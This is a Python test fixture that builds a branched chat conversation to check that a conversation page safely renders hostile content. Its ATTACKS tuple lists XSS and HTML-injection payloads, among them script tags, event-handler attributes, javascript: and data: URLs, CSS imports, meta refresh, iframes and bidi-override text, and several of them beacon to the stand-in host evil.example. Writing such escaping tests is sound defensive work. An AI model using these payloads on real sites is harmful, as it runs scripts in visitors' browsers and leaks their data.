"""A conversation with branches, tools and hostile content, for the tests of its page."""

import shlex

from tests.plugins.claudecode.chat_support import World, run, say, think

# Each text tries to run a script or to load something. `ran()` is a function of the opening page.
HOST = "evil.example"
_RUN = f"parent.ran('{{}}');new Image().src='http://{HOST}/{{}}'"
ATTACKS = (
    f"<script>{_RUN.format('script', 'script')}</script>",
    f'<img src="http://{HOST}/img" onerror="{_RUN.format("onerror", "onerror")}">',
    f"<svg onload=\"{_RUN.format('svg', 'svg')}\"><image href='http://{HOST}/svg-image'/></svg>",
    f"[link](javascript:{_RUN.format('link', 'link').replace(' ', '%20')})",
    f"![remote](http://{HOST}/markdown.png)",
    "![data](data:image/svg+xml,%3Csvg%20onload='parent.ran()'/%3E)",
    "[page](data:text/html,<script>parent.ran()</script>)",
    f'</style></title></pre></code><link rel="stylesheet" href="http://{HOST}/style.css">',
    f'<style>@import "http://{HOST}/import.css"; * {{ display: none }}</style>',
    f'<meta http-equiv="refresh" content="0; url=http://{HOST}/refresh">',
    f'<base href="http://{HOST}/"><iframe src="http://{HOST}/frame"></iframe>',
    f'<details open ontoggle="{_RUN.format("toggle", "toggle")}">x</details>',
    f'<form action="http://{HOST}/form"><input autofocus onfocus="parent.ran()"></form>',
    f'<object data="http://{HOST}/object"></object><video src="http://{HOST}/v" autoplay></video>',
    "left \u202egnp.exe\u202c right \u2066isolated\u2069 zero\u200bwidth",
)
ANSWER = (
    "## The plan",
    "",
    "Some **bold**, *italic* and ~~struck~~ text with `inline code`, and a",
    "[link](https://example.org/a/very/long/path?with=parameters) to a page.",
    "",
    "| file | lines | what it does |",
    "|---|--:|---|",
    "| `hubd/storage/database.py` | 312 | one writer thread, group commit |",
    "| `hubd/wire/envelope.py` | 88 | every JSON-RPC message |",
    "",
    "```python",
    "def greet(name: str) -> str:",
    '    """Return a greeting that is rather long, so that the line has to be wrapped."""',
    '    return f"Hello, {name}!"',
    "```",
    "",
    "> A quote.",
    "",
    "1. First",
    "2. Second",
    "   - nested",
)


async def converse(here: World) -> None:
    """Store the conversation in the session `s`, with branches of two other sessions."""
    await here.chat(
        think("The user wants a plan.\nFirst I look at the files."),
        run("printf 'one\\ntwo\\n'"),
        run("ls /does/not/exist"),
        say("Done."),
        allowed_tools=["Bash"],
    )
    answer = (await here.call("get_conversation", name="s"))[-1]
    await here.chat(prompt="\n".join(ANSWER))
    await here.one("fork", name="s", new_name="attacked", at=answer["node_id"])
    steps = [step for attack in ATTACKS for step in (think(attack), say(attack))]
    await here.chat(*steps, run(f"echo {shlex.quote(ATTACKS[0])}"), name="attacked")
    await here.one("fork", name="s", new_name="<b onclick=x>third</b>", at=answer["node_id"])
    await here.chat(say("a short branch"), name="<b onclick=x>third</b>")
